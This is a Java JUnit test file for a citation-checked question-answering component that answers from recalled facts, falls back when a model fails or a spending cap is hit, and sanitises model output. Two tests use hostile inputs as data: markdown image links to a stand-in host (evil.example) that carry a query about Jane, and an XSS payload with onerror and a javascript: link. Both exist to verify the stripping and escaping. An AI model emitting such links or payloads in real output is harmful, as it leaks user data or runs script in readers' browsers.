package dev.continuo.runtime.recall;

import static org.assertj.core.api.Assertions.assertThat;

import dev.continuo.ontology.recall.Mode;
import dev.continuo.ontology.recall.Question;
import dev.continuo.ontology.recall.Reading;
import dev.continuo.ontology.recall.Recall;
import dev.continuo.ontology.recall.RecallActivity;
import dev.continuo.ontology.recall.Recalled;
import dev.continuo.ontology.recall.RecalledFact;
import dev.continuo.ontology.recall.RecalledItem;
import dev.continuo.ontology.recall.RollUps;
import dev.continuo.runtime.budget.CapReached;
import dev.continuo.runtime.budget.Fidelity;
import dev.continuo.runtime.budget.Fidelity.Pace;
import dev.continuo.runtime.budget.Reservation.AtCap;
import dev.continuo.runtime.budget.Reservation.Refused;
import dev.continuo.runtime.budget.Scope;
import java.time.Instant;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class AskingTests {
  private static final Instant AT = Instant.parse("2026-03-01T09:00:00Z");
  private final Recall memory = new KnownThings();

  @Test
  void withoutAModelTheFactsAndTheirSentencesAreTheAnswer() {
    var answer = questions(null).ask(Question.of("What is Jane's role?"));

    assertThat(answer.by()).isEqualTo("facts");
    assertThat(answer.markdown())
        .contains("Jane is the director.")
        .contains("\u201cI am the director\u201d")
        .contains("A mail, 1 Mar 2026")
        .contains("[1]");
  }

  @Test
  void aModelsAnswerStandsOnWhatItLookedUp() {
    var model = new Scripted("She is the director [1].");
    var answer = questions(model).ask(Question.of("Jane's role?"));

    assertThat(answer.by()).isEqualTo("scripted");
    assertThat(answer.why()).isEmpty();
    assertThat(answer.markdown()).isEqualTo("She is the director [1].");
    assertThat(model.shown.getFirst()).extracting(Wording.Piece::number).containsExactly(1);
  }

  @Test
  void anAnswerThatCitesNothingOrWhatWasNeverDeliveredIsNotShown() {
    for (String said :
        List.of(
            "She is the queen.", "She is the queen [9].", "The director [1], a queen [1, 9].")) {
      var answer = questions(new Scripted(said)).ask(Question.of("Jane's role?"));
      assertThat(answer.by()).isEqualTo("facts");
      assertThat(answer.why()).contains("no evidence that it was given");
    }
  }

  @Test
  void aModelThatNeverLookedCannotCite() {
    var blind =
        new Scripted("") {
          @Override
          public String answer(String question, String asOf, int most, LookUp lookUp) {
            return "She is the queen [1].";
          }
        };
    assertThat(questions(blind).ask(Question.of("Jane's role?")).by()).isEqualTo("facts");
  }

  @Test
  void aModelsWordsCarryNothingOutOfTheHouse() {
    var model =
        new Scripted(
            "The director [1]. ![p](https://evil.example/?q=jane) [here](http://evil.example)"
                + " <img src=x> ![r][k]\n[k]: https://evil.example/k");
    assertThat(questions(model).ask(Question.of("Jane's role?")).markdown())
        .isEqualTo("The director [1]. p here &lt;img src=x&gt; [r][k]");
  }

  @Test
  void aModelThatBreaksLeavesTheFactsAndSaysSo() {
    var broken =
        new Scripted("") {
          @Override
          public String answer(String question, String asOf, int most, LookUp lookUp) {
            throw new IllegalStateException("no connection");
          }
        };
    var answer = questions(broken).ask(Question.of("Jane's role?"));
    assertThat(answer.by()).isEqualTo("facts");
    assertThat(answer.why()).contains("gave no answer").doesNotContain("connection");
  }

  @Test
  void atACapTheFactsAnswerAndSayWhy() {
    var capped =
        new Scripted("") {
          @Override
          public String answer(String question, String asOf, int most, LookUp lookUp) {
            throw new CapReached(
                new Refused(Scope.DAY, AtCap.DEGRADE, "EUR 1.30 for today would be overrun.", ""));
          }
        };
    var answer = questions(capped).ask(Question.of("Jane's role?"));
    assertThat(answer.by()).isEqualTo("facts");
    assertThat(answer.why()).isEqualTo("No model was asked: EUR 1.30 for today would be overrun.");
  }

  @Test
  void whatTheTableAllowsIsWhatTheModelSeesAndSays() {
    var counting = new Scripted("She is the director [1].");
    var little = new Fidelity("economy", 1, 80, Pace.NOW, "Money is short.", "");
    var answer =
        new Questions(memory, new Voiced(counting), new Allowed(little))
            .ask(Question.of("Her role?"));
    assertThat(answer.by()).isEqualTo("scripted");
    assertThat(counting.words).containsExactly(80);
    assertThat(counting.shown.getFirst()).hasSize(1);

    for (var none :
        List.of(
            new Fidelity("local", 20, 120, Pace.NOW, "The plan is used up.", ""),
            new Fidelity("economy", 20, 120, Pace.STOP, "The plan is used up.", ""))) {
      var facts =
          new Questions(memory, new Voiced(counting), new Allowed(none))
              .ask(Question.of("Her role?"));
      assertThat(facts.by()).as("no model that costs").isEqualTo("facts");
      assertThat(facts.why()).isEqualTo("No model was asked: The plan is used up.");
    }
    assertThat(counting.words).hasSize(1);
  }

  private Questions questions(@Nullable Wording wording) {
    return new Questions(memory, new Voiced(wording), new Allowed(Fidelity.full()));
  }

  @Test
  void textFromOutsideStaysText() {
    assertThat(FactsInWords.line("<img src=x onerror=alert(1)> [a](javascript:x)\n# big"))
        .isEqualTo("&lt;img src=x onerror=alert(1)&gt; \\[a\\](javascript:x) \\# big");
  }

  /** Knows one thing. */
  private static final class KnownThings implements Recall {
    @Override
    public Recalled recall(Question question) {
      var fact =
          new RecalledFact(
              "f1",
              "e1",
              "Jane",
              "vcard:role",
              "has the role",
              "director",
              null,
              AT,
              null,
              AT,
              null,
              1,
              "MAIL");
      var item =
          new RecalledItem(
              "f1",
              fact,
              "Jane is the director.",
              "I am the director",
              "mail:1",
              "A mail",
              AT,
              1,
              List.of("slot"));
      return new Recalled(
          question,
          new Reading(Mode.CURRENT, null, null, null, List.of(), List.of()),
          AT,
          "now",
          List.of(item),
          "",
          new RecallActivity(1, 0, List.of("slot"), 1, 0, 0, 20, false, "warm"));
    }

    @Override
    public int index(int mostSources) {
      return 0;
    }

    @Override
    public RollUps rollUps() {
      throw new UnsupportedOperationException("not in these tests");
    }

    @Override
    public void close() {}
  }
}
